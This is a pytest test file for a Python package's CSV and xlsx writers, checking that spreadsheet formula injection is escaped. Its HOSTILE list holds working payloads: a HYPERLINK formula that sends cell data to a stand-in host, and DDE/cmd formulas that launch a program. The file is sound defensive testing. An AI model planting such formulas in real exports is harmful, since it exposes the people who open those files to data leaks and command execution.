"""Spreadsheet formula injection (issue 14): expected outcome *escaped*.

Hostile labels are written by the table writers; the CSV cell gets a leading
``'`` (OWASP), the xlsx cell is a string and the workbook holds no formula.
"""
from __future__ import annotations

import csv
import zipfile

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from altena_qca._cells import FORMULA_START, neutralise
from altena_qca._io import write_csv, write_workbook

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"klik")', "=1+2", "+1+2", "-1+2", "@SUM(A1:A9)",
           "\t=1+2", "\r=1+2", " =cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")"]


def _table() -> pd.DataFrame:
    return pd.DataFrame({"label": HOSTILE, "n": range(len(HOSTILE)), "value": [-1.5] * len(HOSTILE)})


def test_csv_cells_are_neutralised(tmp_path):
    path = write_csv(_table(), tmp_path / "t.csv")
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert [r["label"] for r in rows] == ["'" + h.replace("\r", "\n") for h in HOSTILE]
    assert {r["value"] for r in rows} == {"-1.5000"}  # numbers stay numbers


def test_xlsx_has_no_formula_and_keeps_the_text(tmp_path):
    import openpyxl

    path = write_workbook({"labels": _table()}, tmp_path / "t.xlsx")
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    ws = openpyxl.load_workbook(path)["labels"]
    cells = [ws.cell(row=i + 2, column=1) for i in range(len(HOSTILE))]
    assert [c.value for c in cells] == HOSTILE and {c.data_type for c in cells} == {"s"}


@given(st.text(max_size=20))
def test_no_neutralised_cell_starts_a_formula(text):
    out = neutralise(text)
    assert out in (text, "'" + text)
    if out == text and text.lstrip(" ").startswith(FORMULA_START):
        float(text.strip().replace(",", "."))  # only a plain number is left as it is
